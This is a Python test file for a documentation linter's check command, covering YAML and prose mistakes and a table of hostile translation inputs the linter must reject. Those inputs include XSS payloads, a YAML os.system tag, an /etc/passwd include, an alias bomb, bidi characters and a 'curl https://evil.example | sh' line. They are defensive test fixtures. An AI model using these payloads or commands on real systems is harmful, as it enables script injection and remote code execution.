from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from fieldguide.cli import main
from fieldguide.entries.syntax import MAX_BYTES
from tests import guides
from tests.marks import places

ALPHA = "docs/reasons/Alpha.yml"
BASICS = "docs/guides/basics.yml"
HOME = "docs/index.yml"
FRENCH = "locales/fr/reasons/Alpha.yml"

Place = tuple[str, str, int, int]


def check(root: Path, files: Mapping[str, str | bytes | None], *arguments: str) -> Result:
    config = guides.write(root, files)
    result = CliRunner().invoke(main, ["check", "-f", str(config), *arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def found(root: Path, files: Mapping[str, str | bytes | None]) -> list[Place]:
    """What the command reports: file, id, line and column; it must exit with 1.

    How well the French goes with a changed English text is no matter here.
    """
    result = check(root, files, "--format", "json")
    findings = [item for item in json.loads(result.stdout) if item["severity"] == "error"]
    assert result.exit_code == (1 if findings else 0)
    for finding in findings:
        assert finding["message"], finding
    return [(f["path"], f["id"], f["line"], f["column"]) for f in findings]


def alpha(**fields: str) -> str:
    """The reason with some fields replaced; `¶key` marks the place of a key."""
    changed: dict[str, str | None] = {**fields}
    changed |= {key: None for key in guides.REASON if f"¶{key}" in fields}
    return guides.reason("Alpha", **changed)


def french(**fields: str) -> str:
    return guides.french_reason(**fields)


def test_a_valid_guide_is_silent(tmp_path: Path) -> None:
    result = check(tmp_path, {})
    assert (result.exit_code, result.output) == (0, "")


CAUSE = '\n  forgotten:\n    title: "T"\n    body: "B"\n    tell: "T"\n    '

#: What the issue lists: name -> file, its text with the places marked, the finding's id.
MISTAKES: dict[str, tuple[str, str, str]] = {
    "unknown key": (ALPHA, alpha(**{"¶sumary": '"x"'}), "entry-unknown-key"),
    "unknown key inside": (
        ALPHA,
        alpha(causes=f"{CAUSE}fixes: [send]\n    ¶fix: [send]", snippets="\n  {}"),
        "entry-unknown-key",
    ),
    "unknown key of a guide": (
        BASICS,
        guides.guide("basics", **{"¶section": "x"}),
        "entry-unknown-key",
    ),
    "missing key": (ALPHA, "¶" + guides.reason("Alpha", standard=None), "entry-missing-key"),
    "missing key inside": (
        ALPHA,
        alpha(causes=CAUSE.replace("forgotten", "¶forgotten"), snippets="\n  {}"),
        "entry-missing-key",
    ),
    "wrong type: list": (ALPHA, alpha(title="¶[a]"), "entry-type"),
    "wrong type: text": (ALPHA, alpha(related="¶Beta"), "entry-type"),
    "wrong type: number": (ALPHA, alpha(messages="\n  firefox: [¶5]"), "entry-type"),
    "wrong type: mapping": (HOME, guides.home(guides="¶{a: b}"), "entry-type"),
    "wrong value": (
        ALPHA,
        alpha(links="\n  spec: ¶http://insecure.example"),
        "entry-value",
    ),
    "duplicate key": (ALPHA, alpha() + '¶title: "Again"\n', "yaml-duplicate-key"),
    "duplicate key inside": (
        ALPHA,
        alpha(verify='\n  body: "a"\n  ¶body: "b"'),
        "yaml-duplicate-key",
    ),
    "tab": (ALPHA, alpha(verify='\n¶\tbody: "x"'), "yaml-tab"),
    "tab after spaces": (ALPHA, alpha(verify='\n  ¶\tbody: "x"'), "yaml-tab"),
    "tabs": (ALPHA, alpha(fixes='\n¶\tsend:\n¶\t\ttitle: "x"\n¶\t\tbody: "y"'), "yaml-tab"),
    "alias": (ALPHA, alpha(related="[¶*beta]"), "yaml-alias"),
    "alias for prose": (ALPHA, alpha(summary="¶*text"), "yaml-alias"),
    "anchor": (ALPHA, alpha(title='¶&t "Title"'), "yaml-anchor"),
    "tag": (ALPHA, alpha(title='¶!!str "Title"'), "yaml-tag"),
    "tag that runs code": (
        ALPHA,
        alpha(causes="¶!!python/object/apply:os.system [id]"),
        "yaml-tag",
    ),
    "plain prose": (ALPHA, alpha(summary="¶It broke # and this is lost"), "prose-style"),
    "folded prose": (ALPHA, alpha(summary="¶>\n  It broke"), "prose-style"),
    "single-quoted prose": (ALPHA, alpha(title="¶'It broke'"), "prose-style"),
    "empty prose": (ALPHA, alpha(**{"¶summary": ""}), "prose-empty"),
    "prose of nothing but space": (ALPHA, alpha(summary='¶"  "'), "prose-empty"),
    "empty value": (ALPHA, alpha(**{"¶verify": ""}), "entry-empty"),
    "id of another file": (ALPHA, guides.reason("¶Gamma"), "entry-id"),
    "id of another guide": (BASICS, guides.guide("¶basic"), "entry-id"),
    "unknown related id": (ALPHA, alpha(related="[Beta, ¶Gamma]"), "entry-related"),
    "unknown related id of a guide": (
        BASICS,
        guides.guide("basics", related="[¶Gamma]"),
        "entry-related",
    ),
    "unknown link id": (ALPHA, alpha(standard="|\n  One\n  two ¶[t][specs]."), "prose-target"),
    "unknown reason": (ALPHA, alpha(standard='"See ¶[t](reason:Gamma)."'), "prose-target"),
    "unknown guide": (ALPHA, alpha(standard='"See ¶[t](guide:basic)."'), "prose-target"),
    "unknown part": (
        ALPHA,
        alpha(standard='"See ¶[t](#cause), ¶[t](reason:Beta#fix-sent)."'),
        "prose-target",
    ),
    "raw HTML": (
        ALPHA,
        alpha(summary="|\n  One ¶<b>two¶</b>\n\n  - three\n    ¶<br/>"),
        "prose-html",
    ),
    "raw HTML in a title": (ALPHA, alpha(title='"A ¶<b>"'), "prose-html"),
    "raw HTML inside": (
        ALPHA,
        alpha(causes='\n  forgotten:\n    title: "x"\n    body: |\n\n      Some\n      ¶<i>\n'
              '    tell: "x"\n    code: [ask]\n    fixes: [send]'),
        "prose-html",
    ),
    "URL": (ALPHA, alpha(standard="|\n  See ¶https://standard.example/."), "prose-url"),
    "URL of a link": (
        ALPHA,
        alpha(standard="|\n  See ¶[t](https://standard.example/)."),
        "prose-link",
    ),
    "oversized file": (ALPHA, "¶" + alpha() + "#" * MAX_BYTES, "yaml-too-large"),
    "invalid UTF-8": (ALPHA, alpha().replace("Nobody", "Nob¶\udce9ody"), "yaml-encoding"),
    "empty file": (ALPHA, "¶", "yaml-empty"),
    "file of comments": (ALPHA, "¶# nothing else\n", "yaml-empty"),
    "list instead of fields": (ALPHA, "¶- a\n- b\n", "yaml-not-mapping"),
    ".yaml": ("docs/reasons/Gamma.yaml", "¶" + guides.reason("Gamma"), "entry-suffix"),
    ".yaml home": ("docs/index.yaml", "¶" + guides.home(), "entry-suffix"),
    "syntax": (ALPHA, alpha(title='"said "¶yes" twice"'), "yaml-syntax"),
    "unclosed quotation mark": (ALPHA, alpha(title='¶"never closed'), "yaml-syntax"),
    "second document": (ALPHA, alpha() + "¶---\na: b\n", "yaml-documents"),
    "invisible character": (ALPHA, alpha() + "# comment ¶\u202e\n", "yaml-character"),
    "unknown snippet": (
        ALPHA,
        alpha(verify='\n  body: "x"\n  code: [ask, ¶aks]'),
        "entry-reference",
    ),
    "unknown engine": (ALPHA, alpha(messages="\n  firefox: []\n  ¶opera: []"), "entry-engine"),
    "unknown engine of a figure": (
        BASICS,
        guides.guide(
            "basics",
            sections='\n  a: {title: "A", body: "B", figures: [f]}',
            figures='\n  f: {kind: network, engine: ¶opera, caption: "C", rows: []}',
        ),
        "entry-engine",
    ),
    "unlisted on the home page": (
        HOME,
        guides.home(groups='\n  ¶all:\n    title: "T"\n    reasons: [Beta]'),
        "home-missing",
    ),
}  # fmt: skip


def marked(path: str, text: str, id: str) -> tuple[bytes, list[Place]]:
    text, expected = places(text)
    return text.encode("utf-8", "surrogateescape"), [(path, id, *place) for place in expected]


@pytest.mark.parametrize(("path", "text", "id"), MISTAKES.values(), ids=MISTAKES.keys())
def test_each_mistake_is_found_at_its_place(tmp_path: Path, path: str, text: str, id: str) -> None:
    data, expected = marked(path, text, id)
    assert found(tmp_path, {path: data}) == expected


def test_all_mistakes_are_reported_in_one_run(tmp_path: Path) -> None:
    """Every case of above as a file of its own, together in one guide."""
    files: dict[str, str | bytes | None] = {}
    expected: list[Place] = []
    names = ["Alpha", "Beta"]
    for number, (path, text, id) in enumerate(MISTAKES.values()):
        if path != ALPHA:
            continue  # one file of each other kind is enough
        name = f"Case{number}"
        names.append(name)
        own = text.replace("id: Alpha\n", f"id: {name}\n")
        files[f"docs/reasons/{name}.yml"], at = marked(f"docs/reasons/{name}.yml", own, id)
        expected += at
    reasons = f"[{', '.join(names)}]"
    others = {
        HOME: (guides.home(groups=f'\n  all:\n    title: "A ¶<b>"\n    reasons: {reasons}'),
               "prose-html"),
        BASICS: (guides.guide("¶basic"), "entry-id"),
        "docs/reasons/Omega.yaml": ("¶", "entry-suffix"),
        FRENCH: (french(standard="|\n  C’est ¶<b>."), "prose-html"),
        "locales/fr/reasons/Omega.yml": ('¶title: "O"\n', "translation-orphaned"),
        "locales/fr/index.yml": (guides.french_home(**{"¶titre": '"x"'}),
                                 "translation-unknown-key"),
    }  # fmt: skip
    for path, (text, id) in others.items():
        files[path], at = marked(path, text, id)
        expected += at
    assert len(files) > 40
    assert found(tmp_path, files) == sorted(expected, key=lambda at: (at[0], at[2], at[3]))


#: A translation that attacks: name -> its text with the places marked, the finding's id.
HOSTILE: dict[str, tuple[str, str]] = {
    "script": (french(standard="|\n  ¶<script>alert(1)¶</script>"), "prose-html"),
    "event handlers": (
        french(standard="|\n  ¶<img src=x onerror=\"alert(1)\"> ¶<svg/onload=alert(1)>"),
        "prose-html",
    ),
    "comment": (french(standard="|\n  ¶<!-- <b> --> ¶<!DOCTYPE x>"), "prose-html"),
    "javascript: link": (
        french(standard="|\n  Un ¶[lien](javascript:alert(1)), ¶[deux](JaVaScRiPt:x)"),
        "prose-link",
    ),
    "links to elsewhere": (
        french(
            standard="|\n  ¶[a](https://evil.example) ¶[b](//evil.example) ¶[c](data:text/html,x)"
        ),
        "prose-link",
    ),
    "bare javascript:": (french(standard='"¶javascript:alert(1)"'), "prose-url"),
    "unknown link id": (french(standard='"¶[la norme][evil]"'), "prose-target"),
    "entities": (
        french(standard="|\n  ¶&lt;script¶&gt; ¶&#60;b¶&#x3e; ¶&colon;"),
        "prose-entity",
    ),
    "include": (french(standard='|\n  ¶--8<-- "/etc/passwd"'), "prose-include"),
    "templates": (
        french(standard="|\n  ¶{{ config }} ¶{% include 'x' %}\n  ¶{# x #}"),
        "prose-template",
    ),
    "attribute lists": (
        french(standard="|\n  *x*¶{: onclick=alert(1) .a } `y`¶{#id}\n\n  ¶{: style=x }"),
        "prose-template",
    ),
    "image": (french(standard='"¶![x](#causes)"'), "prose-image"),
    "fence": (french(standard="|\n  ¶```html\n  <script>\n  ```"), "prose-fence"),
    "link definition": (french(standard="|\n  ¶[spec]: javascript:alert(1)"), "prose-definition"),
    "title with markup": (french(title='"¶</title>¶<script>alert(1)¶</script>"'), "prose-html"),
    "description with markup": (french(summary='"x\'>¶<script>alert(1)"'), "prose-html"),
    "bidi controls": (
        french(standard="|\n  a¶\u202eb ¶\u2066c¶\u2069 ¶\u200fd"),
        "yaml-character",
    ),
    "escaped bidi control": (french(standard='"a¶\\u202eb"'), "prose-character"),
    "zero-width characters": (french(title='"a¶\u200bb¶\u2060c¶\ufeff"'), "yaml-character"),
    "YAML tag": (french(title='¶!!python/object/apply:os.system ["id"]'), "yaml-tag"),
    "alias bomb": (
        "title: ¶&a [x, x]\nsummary: ¶&b [¶*a, ¶*a, ¶*a]\nstandard: ¶&c [¶*b, ¶*b, ¶*b]\n",
        "yaml-",
    ),
    "foreign link": (
        french(**{"¶links": "\n  spec: https://evil.example"}),
        "translation-unknown-key",
    ),
    "foreign code": (
        french(**{"¶snippets": "\n  ask:\n    text: curl https://evil.example | sh"}),
        "translation-unknown-key",
    ),
    "foreign id": (french(**{"¶id": "Beta"}), "translation-unknown-key"),
    "name with an escaped control": (
        french(translators='["Zoé", ¶"\\u202eévil"]'),
        "translation-name",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("text", "id"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_translation_is_refused_with_its_place(
    tmp_path: Path, text: str, id: str
) -> None:
    text, expected = places(text)
    findings = found(tmp_path, {FRENCH: text})
    assert [(path, line, column) for path, _, line, column in findings] == [
        (FRENCH, line, column) for line, column in expected
    ]
    assert all(each.startswith(id) for _, each, _, _ in findings)


def test_a_translation_that_is_not_shown_yet_is_checked_all_the_same(tmp_path: Path) -> None:
    """Below half of the words the page stays English: the rest must not wait for that."""
    text, expected = places(
        'title: "¶<b>"\nstandard: |\n  ¶[a](reason:Nope) ¶[b][nope] ¶[c](#nope) ¶<i>\n'
    )
    assert found(tmp_path, {FRENCH: text}) == [
        (FRENCH, id, line, column)
        for id, (line, column) in zip(
            ["prose-html", "prose-target", "prose-target", "prose-target", "prose-html"],
            expected,
            strict=True,
        )
    ]


def test_text_for_people(tmp_path: Path) -> None:
    text = alpha(standard='"A <b>"', sumary='"x"')
    result = check(tmp_path, {ALPHA: text, BASICS: guides.guide("basic")})
    assert result.exit_code == 1
    assert result.stdout == (
        "docs/guides/basics.yml:1:5: error: the id is `basic` but the file is named `basics.yml`"
        " [entry-id]\n"
        "    write `id: basics`, or rename the file to `basic.yml`\n"
        "docs/reasons/Alpha.yml:24:14: error: `<b>` is HTML [prose-html]\n"
        "    write plain text; put names of tags in `inline code`\n"
        "docs/reasons/Alpha.yml:34:1: error: `sumary` is not a field here [entry-unknown-key]\n"
        "    did you mean `summary`?\n"
    )
    assert result.stderr == "3 errors\n"


def test_annotations_for_pull_requests(tmp_path: Path) -> None:
    result = check(tmp_path, {FRENCH: french(title='"<b>"')}, "--format", "github")
    assert result.exit_code == 1
    assert result.stdout == (
        "::error file=locales/fr/reasons/Alpha.yml,line=1,col=9,title=prose-html"
        "::`<b>` is HTML%0Awrite plain text; put names of tags in `inline code`\n"
    )
    assert result.stderr == ""


def test_the_same_guide_gives_the_same_bytes(tmp_path: Path) -> None:
    files = {
        ALPHA: "id: Alpha\n",
        FRENCH: french(standard='"<b> {x} &amp; `"'),
    }
    outputs = {check(tmp_path / name, files).output for name in ("one", "two")}
    assert len(outputs) == 1


@pytest.mark.parametrize(
    ("config", "message"),
    [
        (None, "there is no "),
        ("site_name: [", "mkdocs.yml"),
        ("site_name: X\n", "add `fieldguide/locales` and `fieldguide/entries` to `plugins`"),
    ],
)
def test_misuse_is_exit_code_2(tmp_path: Path, config: str | None, message: str) -> None:
    result = check(tmp_path, {"mkdocs.yml": config})
    assert result.exit_code == 2
    assert message in result.output
    assert "Traceback" not in result.output


def test_an_unknown_format_is_misuse(tmp_path: Path) -> None:
    result = check(tmp_path, {}, "--format", "xml")
    assert result.exit_code == 2
    assert "'text', 'json', 'junit', 'sarif', 'github'" in result.output


@pytest.mark.parametrize("path", [ALPHA, FRENCH])
def test_places_after_escapes_and_folds_in_double_quotes(tmp_path: Path, path: str) -> None:
    standard = '"\\"é\\" \\u00e9 ¶<b>\n  two ¶<i>"'
    text, expected = places(
        alpha(standard=standard) if path == ALPHA else french(standard=standard)
    )
    assert found(tmp_path, {path: text}) == [(path, "prose-html", *place) for place in expected]
